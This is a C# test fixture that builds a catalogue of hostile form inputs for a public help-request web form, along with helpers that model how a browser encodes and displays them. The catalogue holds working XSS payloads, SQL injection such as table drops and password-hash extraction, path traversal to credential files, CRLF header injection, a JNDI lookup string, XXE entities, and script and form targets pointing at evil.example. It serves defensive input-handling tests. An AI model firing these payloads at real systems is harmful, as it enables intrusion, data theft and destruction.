using System.Text;

namespace Cash.Tests.Infrastructure;

/// <summary>
/// What an attacker, a broken keyboard or a curious teenager types into a public form: markup,
/// SQL, format strings, control and invisible characters, right-to-left tricks, emoji, very long
/// values. Built in code (no file to lose), each entry with a short name for failure messages.
/// </summary>
/// <remarks>
/// Lone surrogates cannot travel as they are: a browser (and <see cref="RawForm"/>) encodes form
/// values as UTF-8, which has no encoding for half a pair, so each one arrives as U+FFFD. The
/// server therefore stores U+FFFD where the string had a lone surrogate; <see cref="AsSent"/> says
/// what the server receives.
/// </remarks>
public static class HostileStrings
{
    public const int MaxTextLength = 5000;

    public static IReadOnlyList<Hostile> All { get; } = Build();

    /// <summary>What the server receives once <paramref name="value"/> is UTF-8 form-encoded: lone surrogates become U+FFFD.</summary>
    public static string AsSent(string value) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(value));

    /// <summary>
    /// What a browser shows for <paramref name="value"/> once the server has HTML-encoded it and the
    /// page was parsed (HTML standard, "numeric character reference end state"): a NUL reference
    /// becomes U+FFFD and references to C1 controls U+0080–U+009F are read as Windows-1252.
    /// Nothing else changes: the rest is inert text, character for character.
    /// </summary>
    public static string AsShown(string value)
    {
        var shown = new StringBuilder(value.Length);
        foreach (var c in value)
        {
            shown.Append(c switch
            {
                '\0' => '\uFFFD',
                >= '\u0080' and <= '\u009F' => Windows1252[c - 0x80] is var mapped && mapped != '\0' ? mapped : c,
                _ => c,
            });
        }

        return shown.ToString();
    }

    // The HTML standard's table for numeric references to 0x80–0x9F; '\0' marks the code points left as they are.
    private static readonly char[] Windows1252 =
    [
        '\u20AC', '\0', '\u201A', '\u0192', '\u201E', '\u2026', '\u2020', '\u2021', '\u02C6', '\u2030', '\u0160', '\u2039', '\u0152', '\0', '\u017D', '\0',
        '\0', '\u2018', '\u2019', '\u201C', '\u201D', '\u2022', '\u2013', '\u2014', '\u02DC', '\u2122', '\u0161', '\u203A', '\u0153', '\0', '\u017E', '\u0178',
    ];

    private static List<Hostile> Build()
    {
        var all = new List<Hostile>();
        void Add(string kind, params string[] values)
        {
            foreach (var value in values)
            {
                all.Add(new Hostile($"{kind} #{all.Count(h => h.Kind == kind) + 1}", kind, value));
            }
        }

        Add(
            "script",
            "<script>alert(1)</script>",
            "<SCRIPT>alert(1)</SCRIPT>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<script src=//evil.example/x.js></script>",
            "<script/src=data:,alert(1)></script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script>alert(String.fromCharCode(88,83,83))</script>",
            "<script type=\"module\">import('//evil.example/x.js')</script>",
            "<svg><script>alert&#40;1&#41;</script></svg>",
            "<scr\0ipt>alert(1)</script>",
            "<script\n>alert(1)</script\n>",
            "<script\t>alert(1)</script>",
            "＜script＞alert(1)＜/script＞",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(document.cookie)",
            "java\tscript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "vbscript:msgbox(1)");

        // Event handlers in many spellings: every tag with every handler, quoted three ways and cased two ways.
        string[] tags = ["img src=x", "svg", "body", "div", "a href=#", "input autofocus", "details open", "video src=x"];
        string[] handlers = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"];
        var spelling = 0;
        foreach (var tag in tags)
        {
            foreach (var handler in handlers)
            {
                var name = spelling % 2 == 0 ? handler : handler.ToUpperInvariant();
                var call = (spelling % 3) switch
                {
                    0 => "alert(1)",
                    1 => "\"alert(1)\"",
                    _ => "'alert(1)'",
                };
                Add("handler", $"<{tag} {name}={call}>");
                spelling++;
            }
        }

        Add(
            "handler",
            "<img/src/onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<img src=\"x\" onerror=\"&#97;lert(1)\">",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<a href=\"javascript:alert(1)\">clique</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">clique</a>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<x onclick=alert(1)>clique</x>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<style>@import 'http://evil.example/x.css';</style>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<base href=\"//evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<form action=//evil.example><button>Envoyer</button></form>",
            "<input type=hidden name=Input.Service value=la-passerelle>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<template><script>alert(1)</script></template>");

        Add(
            "breaker",
            "\"",
            "'",
            "`",
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "\" autofocus onfocus=alert(1) x=\"",
            "`onmouseover=alert(1)`",
            "<",
            ">",
            "&",
            "&amp;",
            "&nbsp;&shy;&zwj;",
            "<!--",
            "-->",
            "--><script>alert(1)</script>",
            "<!--<script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</p><script>alert(1)</script><p>",
            "</main></body></html><script>alert(1)</script>",
            "</select><script>alert(1)</script>",
            "</option></select><img src=x onerror=alert(1)>",
            "</div></div></div></div>",
            "<p>",
            "<!DOCTYPE html><html><body>",
            "<plaintext>",
            "<xmp><script>alert(1)</script></xmp>");

        Add(
            "sql",
            "' OR '1'='1",
            "' OR 1=1 --",
            "\" OR \"\"=\"",
            "'; DROP TABLE \"HelpRequests\"; --",
            "\"; DROP TABLE HelpRequests; --",
            "1; DELETE FROM \"AuditEntries\"",
            "' UNION SELECT \"Email\", \"PasswordHash\" FROM \"AspNetUsers\" --",
            "'); SELECT pg_sleep(10); --",
            "1' AND (SELECT pg_sleep(5)) IS NULL --",
            "$$; DROP TABLE \"Schools\"; $$",
            "$tag$ x $tag$",
            "E'\\x00'",
            "' || (SELECT version()) || '",
            "'; COPY (SELECT '') TO PROGRAM 'id'; --",
            "'; ATTACH DATABASE '/tmp/evil.db' AS evil; --",
            "' AND sqlite_version() = sqlite_version() --",
            "'; PRAGMA writable_schema = 1; --",
            "' AND randomblob(1000000000) --",
            "admin'--",
            "\\'; DROP TABLE users; --",
            "%' OR '%'='",
            "_%",
            "\\",
            "\\\\",
            "1e309",
            "-1",
            "9223372036854775808",
            "NULL",
            "null",
            "undefined",
            "NaN");

        Add(
            "long",
            new string('a', MaxTextLength),
            Repeat("é", MaxTextLength),
            new string('a', MaxTextLength + 1),
            new string('x', 100_000),
            "   " + new string('b', MaxTextLength) + "   ",
            Repeat("😀", MaxTextLength / 2),
            Repeat("😀", (MaxTextLength / 2) + 1),
            Repeat("On se moque de moi à l’école. ", 166),
            Repeat("<script>alert(1)</script>", 200),
            Repeat("' OR 1=1 -- ", 416));

        Add(
            "word",
            Repeat("Antiharcèlement", 333),
            Repeat("x", 4999) + "y",
            "https://evil.example/" + Repeat("a/", 2000),
            Repeat("A", 100_000),
            Repeat("\u0627", MaxTextLength));

        Add(
            "bidi",
            "\u202Egnp.exe",
            "abc\u202Edef\u202Cghi",
            "\u2066isolé\u2069",
            "\u200F\u200E",
            "\u202E<script>alert(1)</script>",
            "مرحبا، يضايقني زملائي في المدرسة كل يوم",
            "שלום, מציקים לי בבית הספר",
            "Hello مرحبا שלום 123 abc",
            "\u061C\u200F\u202B",
            "بِسْمِ ٱللَّٰهِ",
            "\u202D\u202E\u202A\u202B\u202C");

        Add(
            "emoji",
            "😀",
            "👨‍👩‍👧‍👦",
            "🏳️‍🌈",
            "👍🏽",
            "🇧🇪",
            "❤️",
            "1️⃣",
            "🧑🏿‍🤝‍🧑🏻",
            "🏽",
            "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
            "Ils m’ont envoyé 😡😡😡 sur le groupe 🙁",
            "👩‍💻👩‍💻👩‍💻‍‍‍");

        Add(
            "invisible",
            "\u200B",
            "a\u200Bb\u200Cc\u200Dd",
            "\uFEFF",
            "\uFEFFtexte avec BOM",
            "\u2060\u2061\u2062\u2063\u2064",
            "\u180E",
            "\u00AD",
            "\u034F",
            "\u3164",
            "\uFFFC\uFFFD",
            "\uE000\uF8FF");

        // A browser sends these as U+FFFD (see the remarks above).
        Add(
            "surrogate",
            "\uD800",
            "\uDFFF",
            "a\uD83Db",
            "\uDE00x",
            "\uD83D\uD83D",
            "fin\uD83D");

        Add(
            "control",
            "\0",
            "a\0b",
            "\0<script>alert(1)</script>",
            "\u0001\u0002\u0003",
            "\u0007",
            "\b",
            "\u001B[31mrouge\u001B[0m",
            "\u007F",
            "\u0085",
            "a\u0080\u009Fb",
            "\t",
            "a\v\fb",
            AllControls(),
            "ligne 1\rligne 2",
            "\u2028\u2029",
            "\uFFFF\uFFFE");

        Add(
            "normalization",
            "e\u0301cole",
            "école",
            "ﬁﬂ",
            "\u212B\u00C5A\u030A",
            "ｓｃｒｉｐｔ",
            "\u0130stanbul",
            "straße STRASSE",
            "ǅ",
            "\u212A",
            "Z̴̡̛̘̰̈́a̵̧͓̝̓l̷̡̰̈́g̸̨̛̮o̶̢̪̓",
            "\u0344\u0340",
            "ℌ𝔢𝔩𝔩𝔬",
            "\uFE64script\uFE65",
            "\u0041\u030A\u0301");

        Add(
            "format",
            "{0}",
            "{0}{1}{2}",
            "{",
            "}",
            "{{}}",
            "%s%s%s%n",
            "%x%x%x",
            "%d",
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "<%= 7*7 %>",
            "@(1+1)",
            "@{throw new System.Exception();}",
            "${jndi:ldap://evil.example/a}",
            "{0:N}{-1}",
            "%00",
            "{Text}");

        Add(
            "path",
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/etc/passwd\0.png",
            "....//....//etc/passwd",
            "file:///etc/passwd",
            "\\\\evil.example\\share",
            "~/.ssh/id_rsa",
            "/dev/zero");

        Add(
            "crlf",
            "x\r\nSet-Cookie: pwned=1",
            "x\r\n\r\n<script>alert(1)</script>",
            "%0d%0aLocation:%20//evil.example",
            "x\nBcc: victim@example.be",
            "\r\n",
            "x\u2028Header: y",
            "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK");

        Add(
            "json-xml",
            "{\"a\":",
            "]}",
            "\"}\"",
            "{\"__proto__\":{\"admin\":true}}",
            "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
            "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
            "]]>",
            "\\u0000",
            "\"\\\"",
            "{'a':1}",
            Repeat("[", 1000) + Repeat("]", 1000));

        Add(
            "plain",
            "",
            " ",
            "   \t\n  ",
            "a",
            "0",
            "true",
            "false",
            "<>",
            "l’école d'à côté, « vraiment » — non ?",
            "Ik word gepest op school, één keer per dag.");

        return all;
    }

    private static string Repeat(string value, int count) => new StringBuilder(value.Length * count).Insert(0, value, count).ToString();

    private static string AllControls()
    {
        var controls = new StringBuilder("x");
        for (var c = 1; c < 0x20; c++)
        {
            controls.Append((char)c);
        }

        return controls.Append('x').ToString();
    }
}

/// <summary>One hostile value: a name for messages, its family, and the value itself.</summary>
public sealed record Hostile(string Name, string Kind, string Value)
{
    /// <summary>The value as the server receives it (lone surrogates as U+FFFD).</summary>
    public string Sent => HostileStrings.AsSent(Value);

    /// <summary>
    /// ASP.NET Core's form reader refuses a form with a NUL anywhere ("The form value contains invalid
    /// characters"): the whole post is a 400 before the page sees it, so nothing of it is stored.
    /// </summary>
    public bool BreaksTheForm => Value.Contains('\0', StringComparison.Ordinal);

    public override string ToString() => Name;
}
